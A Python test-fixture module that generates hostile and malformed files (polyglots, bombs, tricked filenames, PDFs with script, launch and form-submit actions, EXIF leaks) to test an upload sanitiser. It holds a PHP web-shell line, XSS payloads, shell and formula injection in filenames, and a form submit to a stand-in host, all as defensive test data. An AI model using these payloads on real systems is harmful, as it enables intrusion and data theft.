"""The hostile half of the corpus of G3, made here: at least 90 hostile or broken files in eleven groups."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from functools import cache

import pikepdf
import pillow_heif
from PIL import Image, PngImagePlugin

from tests.common import hostile_pdf

SCRIPT = b"<script>alert(document.cookie)</script>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
PNG_HEAD = b"\x89PNG\r\n\x1a\n"


def picture(kind="PNG", mode="RGB", size=(40, 30), **how):
    out = io.BytesIO()
    colour = {"RGB": (200, 30, 30), "RGBA": (200, 30, 30, 0), "L": 90, "CMYK": (1, 2, 3, 4)}.get(mode, 1)
    Image.new(mode, size, colour).save(out, kind, **how)
    return out.getvalue()


def chunk(kind, body):
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def png_of(width, height, dots=b"", *extra):
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0))
    return PNG_HEAD + head + b"".join(extra) + chunk(b"IDAT", zlib.compress(dots)) + chunk(b"IEND", b"")


def jpeg_with_gps():
    exif = Image.Exif()
    exif[0x010E] = "SECRET-DESCRIPTION"
    exif.get_ifd(0x8825)[1] = "N-GPS-24.7136"
    return picture("JPEG", exif=exif, comment=SCRIPT)


def png_with_text():
    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", SCRIPT.decode())
    return picture(pnginfo=info)


def zipped(name="evil.html", body=SCRIPT):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr(name, body)
    return out.getvalue()


def pdf(pages=1, dress=None, contents=b"0 0 m 9 9 l S", **how):
    out = io.BytesIO()
    with pikepdf.new() as document:
        for _ in range(pages):
            document.add_blank_page(page_size=(200, 200))
        document.pages[0].Contents = document.make_stream(contents)
        if dress:
            dress(document)
        document.save(out, **how)
    return out.getvalue()


def action(code="app.alert('EVIL')"):
    return pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String(code))


def with_open_action(document):
    document.Root.OpenAction = action()


def with_javascript_names(document):
    names = pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(Names=["EVIL", action()]))
    document.Root.Names = names


def with_attachment(document):
    document.attachments["EVIL.exe"] = b"MZ EVIL attachment"


def with_page_action(document):
    document.pages[0].obj.AA = pikepdf.Dictionary(O=action())


def with_launch_link(document):
    launch = pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("EVIL.exe"))
    link = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 9, 9], A=launch)
    document.pages[0].obj.Annots = pikepdf.Array([document.make_indirect(link)])


def with_uri_link(document):
    uri = pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("https://EVIL.example"))
    link = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 9, 9], A=uri)
    document.pages[0].obj.Annots = pikepdf.Array([link])


def with_form(document):
    field = pikepdf.Dictionary(
        FT=pikepdf.Name.Tx, T=pikepdf.String("EVIL"), AA=pikepdf.Dictionary(K=action())
    )
    document.Root.AcroForm = pikepdf.Dictionary(Fields=[field], XFA=pikepdf.String("EVIL"))


def with_author(document):
    document.docinfo["/Author"] = "EVIL author"
    document.Root.Metadata = document.make_stream(b"<x:xmpmeta>EVIL</x:xmpmeta>")


def with_hidden_in_resources(document):
    form = document.make_stream(b"", Type=pikepdf.Name.XObject, Subtype=pikepdf.Name.Form, BBox=[0, 0, 9, 9])
    form.PieceInfo = pikepdf.Dictionary(App=pikepdf.String("EVIL"))
    form.Metadata = document.make_stream(b"EVIL")
    form.AF = pikepdf.Array([document.make_stream(b"EVIL")])
    extra = pikepdf.Dictionary(Deep=[pikepdf.Dictionary(JS=pikepdf.String("EVIL"))])
    form.Resources = pikepdf.Dictionary(ExtGState=extra)
    resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(X=form), Secret=pikepdf.String("EVIL"))
    document.pages[0].obj.Resources = resources


def with_outside_file(document):
    outside = document.make_stream(
        b"", Type=pikepdf.Name.XObject, Subtype=pikepdf.Name.Form, BBox=[0, 0, 9, 9]
    )
    outside.F = pikepdf.String("EVIL")
    document.pages[0].obj.Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(X=outside))


DRESSES = [
    *(with_open_action, with_javascript_names, with_attachment, with_page_action, with_launch_link),
    *(with_uri_link, with_form, with_author, with_hidden_in_resources, with_outside_file),
]


def pdf_bomb():
    """1.5 GB of blanks, deflated twice: some kilobytes."""
    squeeze, parts = zlib.compressobj(9), []
    for _ in range(1500):
        parts.append(squeeze.compress(b" " * 1024**2))
    twice = zlib.compress(b"".join(parts) + squeeze.flush(), 9)

    def dress(document):
        stream = pikepdf.Stream(document, b"")
        stream.write(twice, filter=pikepdf.Array([pikepdf.Name.FlateDecode, pikepdf.Name.FlateDecode]))
        document.pages[0].Contents = stream

    return pdf(dress=dress, compress_streams=False)


def pdf_of_many_streams():
    def dress(document):
        streams = [document.make_stream(b" " * 6 * 1024**2) for _ in range(10)]
        document.pages[0].Contents = pikepdf.Array(streams)

    return pdf(dress=dress)


def pdf_of_a_huge_picture():
    def dress(document):
        image = document.make_stream(b"\xff\xd8", Subtype=pikepdf.Name.Image, Width=60_000, Height=60_000)
        image.Filter = pikepdf.Name.DCTDecode
        document.pages[0].obj.Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(I=image))

    return pdf(dress=dress)


def pdf_of_looping_pages():
    return (
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
        b"2 0 obj<</Type/Pages/Kids[2 0 R]/Count 1>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF"
    )


LOCKED = pikepdf.Encryption(owner="o", user="u")
EMPTY_PAGES = (
    b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages<</Type/Pages/Kids[]/Count 0>>>>endobj\ntrailer<</Root 1 0 R>>"
)


def with_goto_remote(document):
    away = pikepdf.Dictionary(S=pikepdf.Name.GoToR, F=pikepdf.String("EVIL.pdf"), D=pikepdf.Array([0]))
    document.Root.OpenAction = away


def with_submit_form(document):
    send = pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F=pikepdf.String("https://EVIL.example"))
    button = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Widget, Rect=[0, 0, 9, 9], A=send
    )
    document.pages[0].obj.Annots = pikepdf.Array([document.make_indirect(button)])


def with_rich_media(document):
    film = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot,
        Subtype=pikepdf.Name.RichMedia,
        Rect=[0, 0, 9, 9],
        RichMediaContent=pikepdf.Dictionary(Assets=pikepdf.String("EVIL")),
    )
    document.pages[0].obj.Annots = pikepdf.Array([film])


def png_with_exif_gps():
    exif = Image.Exif()
    exif[0x010E] = "SECRET-DESCRIPTION"
    exif.get_ifd(0x8825)[1] = "N-GPS-24.7136"
    return picture(exif=exif)


def jpeg_with_xmp():
    return picture("JPEG", xmp=b"<x:xmpmeta>SECRET-XMP</x:xmpmeta>")


def jpeg_with_colour_profile():
    return picture("JPEG", icc_profile=b"SECRET-PROFILE" * 20)


def deep_pdf():
    """Pages inside pages, a thousand deep."""
    kids = [
        b"%d 0 obj<</Type/Pages/Kids[%d 0 R]/Count 1>>endobj\n" % (number, number + 1)
        for number in range(2, 1002)
    ]
    return (
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
        + b"".join(kids)
        + b"trailer<</Root 1 0 R>>\n%%EOF"
    )


def png_text_bomb():
    """100 MB of comment in a compressed text chunk."""
    text = b"c\0\0" + zlib.compress(b" " * 100 * 1024**2, 9)
    return png_of(8, 8, b"\0" * 16, chunk(b"zTXt", text))


def icc_bomb():
    profile = b"p\0\0" + zlib.compress(b" " * 100 * 1024**2, 9)
    return png_of(8, 8, b"\0" * 16, chunk(b"iCCP", profile))


def dear_jpeg(scans=300, side=5000):
    """A progressive picture whose last scan comes again and again: some kB, and minutes of work."""
    out = io.BytesIO()
    Image.new("L", (side, side), 90).save(out, "JPEG", progressive=True)
    raw = out.getvalue()
    last = raw.rindex(b"\xff\xda")
    return raw[:last] + raw[last:-2] * scans + raw[-2:]


def small_heic():
    pillow_heif.register_heif_opener()
    return picture("HEIF", size=(200, 200))


# -- the groups ----------------------------------------------------------------------------------------------
@dataclass(frozen=True)
class Case:
    """A file: refused with `code`; or kept, and then nothing of `bad` is in what is kept."""

    group: str
    make: Callable[[], bytes]
    name: str
    code: str = ""
    bad: tuple[bytes, ...] = ()
    extension: str = ""

    @property
    def raw(self) -> bytes:
        return _made(self.make)


@cache
def _made(make: Callable[[], bytes]) -> bytes:
    return make()


def refused(group, make, name, code):
    return Case(group, make, name, code)


def cleaned(group, make, name, *bad):
    return Case(group, make, name, bad=bad)


EICAR = b"X5O!P%@AP[4" + b"\\" + b"PZX54(P^)7CC)7}$EICAR-STANDARD" + b"-ANTIVIRUS-TEST-FILE!$H+H*"
PHP = b"<?php system($_GET[0]); ?>"
JAR = b"META-INF/MANIFEST.MF"

HOSTILE = {
    # twelve polyglots and more: two kinds of file in one
    "png + script": cleaned("polyglot", lambda: picture() + SCRIPT, "a.png", SCRIPT),
    "png + zip": cleaned("polyglot", lambda: picture() + zipped(), "a.png", b"PK\x03\x04", SCRIPT),
    "png + jar": cleaned("polyglot", lambda: picture() + zipped(JAR.decode()), "a.png", b"PK\x03\x04", JAR),
    "png + php": cleaned("polyglot", lambda: picture() + PHP, "a.png", PHP),
    "png + pdf": cleaned("polyglot", lambda: picture() + pdf(), "a.png", b"%PDF"),
    "png with a script inside": cleaned("polyglot", png_with_text, "a.png", SCRIPT, b"tEXt"),
    "png with a strange chunk": cleaned(
        "polyglot", lambda: png_of(8, 8, b"\0" * 16, chunk(b"evIl", SCRIPT)), "a.png", SCRIPT, b"evIl"
    ),
    "jpeg + script": cleaned("polyglot", lambda: picture("JPEG") + SCRIPT, "a.jpg", SCRIPT),
    "jpeg + pdf": cleaned("polyglot", lambda: picture("JPEG") + pdf(), "a.jpg", b"%PDF"),
    "jpeg + php in its comment": cleaned("polyglot", lambda: picture("JPEG", comment=PHP), "a.jpg", PHP),
    "jpeg + rar": cleaned("polyglot", lambda: picture("JPEG") + b"Rar!\x1a\x07\0EVIL", "a.jpg", b"Rar!"),
    "pdf + zip": cleaned("polyglot", lambda: pdf() + zipped(), "a.pdf", b"PK\x03\x04", SCRIPT),
    "pdf + html": cleaned("polyglot", lambda: pdf() + SCRIPT, "a.pdf", SCRIPT),
    "html before a pdf": refused("polyglot", lambda: SCRIPT + pdf(), "a.pdf", "not_what_it_says"),
    "blanks and html before a pdf": refused(
        "polyglot", lambda: b"\n\n" + SCRIPT + pdf(), "a.pdf", "not_what_it_says"
    ),
    # ten of the web's own languages and more
    "svg": refused("markup", lambda: SVG, "a.svg", "wrong_type"),
    "svg renamed": refused("markup", lambda: SVG, "a.png", "not_what_it_says"),
    "svg in xml": refused("markup", lambda: b'<?xml version="1.0"?>' + SVG, "a.jpg", "not_what_it_says"),
    "svg packed": refused("markup", lambda: zlib.compress(SVG), "a.svgz", "wrong_type"),
    "html": refused("markup", lambda: SCRIPT, "a.html", "wrong_type"),
    "html as pdf": refused("markup", lambda: b"<!doctype html>" + SCRIPT, "a.pdf", "not_what_it_says"),
    "xhtml as png": refused("markup", lambda: b"<?xml?><html/>" + SCRIPT, "a.png", "not_what_it_says"),
    "xml": refused("markup", lambda: b'<?xml version="1.0"?><a/>', "a.xml", "wrong_type"),
    "entity bomb as pdf": refused(
        "markup", lambda: b'<!DOCTYPE a [<!ENTITY b "bbbb">]><a>&b;</a>', "a.pdf", "not_what_it_says"
    ),
    "magic and html, png": refused("markup", lambda: PNG_HEAD + SCRIPT, "a.png", "unreadable"),
    "magic and html, jpeg": refused(
        "markup", lambda: b"\xff\xd8\xff\xe0" + SCRIPT * 9, "a.jpg", "unreadable"
    ),
    "magic and html, pdf": refused("markup", lambda: b"%PDF-1.7\n" + SCRIPT, "a.pdf", "unreadable"),
    # twelve lies about the kind and more
    "zip": refused("lie", zipped, "a.zip", "wrong_type"),
    "zip as pdf": refused("lie", zipped, "a.pdf", "not_what_it_says"),
    "word file": refused("lie", lambda: zipped("word/document.xml"), "a.docx", "wrong_type"),
    "php after pdf": Case("lie", pdf, "a.pdf.php", extension="pdf"),
    "html without an ending": refused("lie", lambda: SCRIPT, "pdf", "wrong_type"),
    "gif": refused("lie", lambda: picture("GIF"), "a.gif", "wrong_type"),
    "gif as png": refused("lie", lambda: picture("GIF"), "a.png", "not_what_it_says"),
    "webp as jpeg": refused("lie", lambda: picture("WEBP"), "a.jpg", "not_what_it_says"),
    "tiff as jpeg": refused("lie", lambda: picture("TIFF"), "a.jpeg", "not_what_it_says"),
    "zip with the ending of a jpeg": refused("lie", zipped, "a.jpg", "not_what_it_says"),
    "jpeg as php": Case("lie", lambda: picture("JPEG"), "a.php", extension="jpg"),
    "postscript": refused("lie", lambda: b"%!PS-Adobe-3.0\n", "a.pdf", "not_what_it_says"),
    "program": refused("lie", lambda: b"MZ" + b"\0" * 60, "a.png", "not_what_it_says"),
    "only magic, png": refused("lie", lambda: PNG_HEAD, "a.png", "unreadable"),
    "only magic, jpeg": refused("lie", lambda: b"\xff\xd8\xff", "a.jpg", "unreadable"),
    # ten bombs and more
    "bomb, 9400 a side": refused(
        "bomb", lambda: png_of(9400, 9400, b"\0" * 9400 * 1176), "a.png", "too_many_pixels"
    ),
    "bomb, 60000 a side": refused("bomb", lambda: png_of(60_000, 60_000), "a.png", "too_many_pixels"),
    "long strip": refused("bomb", lambda: png_of(25_001, 1, b"\0" * 3127), "a.png", "too_many_pixels"),
    "tall strip": refused("bomb", lambda: png_of(1, 25_001, b"\0" * 50_002), "a.png", "too_many_pixels"),
    "dots missing": refused("bomb", lambda: png_of(4000, 4000, b"\0" * 90), "a.png", "unreadable"),
    "comment of 100 MB": refused("bomb", png_text_bomb, "a.png", "unreadable"),
    "colour profile of 100 MB": refused("bomb", icc_bomb, "a.png", "unreadable"),
    "pdf bomb": refused("bomb", pdf_bomb, "a.pdf", "too_complex"),
    "pdf of 60 MB streams": refused("bomb", pdf_of_many_streams, "a.pdf", "too_complex"),
    "pdf of a huge picture": refused("bomb", pdf_of_a_huge_picture, "a.pdf", "too_complex"),
    "51 pages": refused("bomb", lambda: pdf(51), "a.pdf", "too_many_pages"),
    "looping pages": refused("bomb", pdf_of_looping_pages, "a.pdf", "unreadable"),
    "pages a thousand deep": refused("bomb", deep_pdf, "a.pdf", "unreadable"),
    # fifteen names and more: shown without what is hostile in them, never a path
    "name: path": Case("name", picture, "../../etc/passwd.png"),
    "name: windows path": Case("name", picture, "..\\..\\system32\\a.png"),
    "name: absolute": Case("name", picture, "/srv/portal/a.png"),
    "name: drive": Case("name", picture, "C:\\a.png"),
    "name: right to left override": Case("name", picture, "a\u202egpj.png"),
    "name: override hides exe": Case("name", picture, "a\u202egnp.exe", extension="png"),
    "name: unseen marks": Case("name", picture, "\u200fعقد\u200b\u2066.png"),
    "name: zero byte": Case("name", pdf, "a.pdf\x00.exe", extension="pdf"),
    "name: line break": Case("name", picture, "a\r\nSet-Cookie: evil=1.png"),
    "name: 300 letters": Case("name", picture, "ع" * 300 + ".png"),
    "name: only dots": Case("name", picture, "....png", extension="png"),
    "name: script": Case("name", picture, "<script>alert(1)<.png"),
    "name: attribute": Case("name", picture, "'><img src=x onerror=alert(1)>.png"),
    "name: hidden file": Case("name", picture, ".htaccess.png"),
    "name: two endings": Case("name", picture, "a.php.png"),
    "name: formula": Case("name", picture, "=cmd|' C calc'!A0.png"),
    "name: encoded path": Case("name", picture, "%2e%2e%2fa.png"),
    "name: shell": Case("name", picture, "$(reboot);`id`.png"),
    # ten actions in a PDF and more
    **{
        f"pdf {dress.__name__.replace('_', ' ')}": cleaned(
            "pdf action", lambda dress=dress: pdf(dress=dress, compress_streams=False), "a.pdf", b"EVIL"
        )
        for dress in (*DRESSES, with_goto_remote, with_submit_form, with_rich_media)
    },
    # four that say where the picture was taken, and by whom
    "jpeg with gps and comment": cleaned(
        "exif", jpeg_with_gps, "a.jpg", SCRIPT, b"GPS-24", b"Exif", b"SECRET"
    ),
    "png with gps": cleaned("exif", png_with_exif_gps, "a.png", b"GPS-24", b"eXIf"),
    "jpeg with xmp": cleaned("exif", jpeg_with_xmp, "a.jpg", b"SECRET-XMP"),
    "jpeg with a profile": cleaned("exif", jpeg_with_colour_profile, "a.jpg", b"SECRET-PROFILE"),
    # the test file of the virus scanners, here without a scanner
    "eicar": refused("eicar", lambda: EICAR, "eicar.pdf", "not_what_it_says"),
    "eicar after a png": cleaned("eicar", lambda: picture() + EICAR, "a.png", EICAR),
    # five that are cut or huge, and more
    "nothing": refused("cut", lambda: b"", "a.pdf", "empty_file"),
    "a byte too much": refused("cut", lambda: b"%PDF-" + b"x" * (12 * 1024**2 - 4), "a.pdf", "too_big"),
    "cut png": refused("cut", lambda: picture(size=(400, 400))[:-40], "a.png", "unreadable"),
    "cut jpeg": refused("cut", lambda: picture("JPEG", size=(400, 400))[:400], "a.jpg", "unreadable"),
    "cut pdf": refused("cut", lambda: pdf()[:60], "a.pdf", "unreadable"),
    "no pages": refused("cut", lambda: EMPTY_PAGES, "a.pdf", "unreadable"),
    "locked": refused("cut", lambda: pdf(encryption=LOCKED), "a.pdf", "encrypted_pdf"),
}
HOSTILE |= {
    # dear to decode: small files that cost a process many seconds (T84)
    "jpeg of 300 scans": refused("dear", dear_jpeg, "a.jpg", "too_many_scans"),
    "jpeg of 60 scans and 25 million dots": refused("dear", lambda: dear_jpeg(60), "a.jpg", "too_many_scans"),
    "pdf with a jpeg of 300 scans": refused(
        "dear", lambda: hostile_pdf.photographed(dear_jpeg(300, 900)), "a.pdf", "too_many_scans"
    ),
    "heic of html": refused("dear", lambda: b"\0\0\0\x18ftypheic" + SCRIPT * 9, "a.heic", "unreadable"),
    "heic that is cut": refused("dear", lambda: small_heic()[:-200], "a.heic", "unreadable"),
    "avif as heic": refused("dear", lambda: picture("AVIF"), "a.heic", "not_what_it_says"),
    "picture that inflates to 100 MB": refused("dear", hostile_pdf.inflating_picture, "a.pdf", "too_complex"),
    # what would be lost in silence (T85)
    "form that only Adobe Reader shows": refused("lost", hostile_pdf.xfa_form, "a.pdf", "xfa_form"),
    "folder of files": refused("lost", hostile_pdf.portfolio, "a.pdf", "portfolio"),
    "note that opens on a click": refused("lost", hostile_pdf.note, "a.pdf", "note_not_shown"),
    "stamp without a look": refused("lost", hostile_pdf.undrawn_stamp, "a.pdf", "mark_not_drawn"),
    "arabic words without a look": refused("lost", hostile_pdf.undrawn_words, "a.pdf", "field_not_drawn"),
    "words longer than their box": refused("lost", hostile_pdf.overflowing, "a.pdf", "field_not_drawn"),
    "picture that is broken": refused("lost", hostile_pdf.broken_picture, "a.pdf", "picture_not_read"),
    # what hides in a PDF's pictures and objects (T86)
    "pdf: gps in a jpeg": cleaned(
        "inside", lambda: hostile_pdf.photographed(jpeg_with_gps()), "a.pdf", b"GPS-24", SCRIPT
    ),
    "pdf: script behind a jpeg": cleaned(
        "inside", lambda: hostile_pdf.photographed(picture("JPEG") + SCRIPT), "a.pdf", SCRIPT
    ),
    "pdf: zip behind a jpeg": cleaned(
        "inside", lambda: hostile_pdf.photographed(picture("JPEG") + zipped()), "a.pdf", b"PK\x03\x04"
    ),
    "pdf: notes of a jpeg 2000": cleaned("inside", hostile_pdf.jpeg_2000_with_notes, "a.pdf", b"EVIL"),
    "pdf: script behind deflated dots": cleaned("inside", hostile_pdf.trailing_dots, "a.pdf", b"EVIL"),
    "pdf: keys of a picture": cleaned("inside", hostile_pdf.odd_keys, "a.pdf", b"EVIL"),
    "pdf: picture that no page shows": cleaned("inside", hostile_pdf.unused_picture, "a.pdf", b"EVIL"),
    "pdf: object that nothing names": cleaned("inside", hostile_pdf.unused_object, "a.pdf", b"EVIL"),
    "pdf: earlier revision": cleaned("inside", hostile_pdf.revised, "a.pdf", b"EVIL"),
}
LEAST = {
    "polyglot": 12, "markup": 10, "lie": 12, "bomb": 10, "name": 15, "pdf action": 10, "exif": 4, "eicar": 2,
    "cut": 5, "dear": 5, "lost": 6, "inside": 6,
}  # fmt: skip
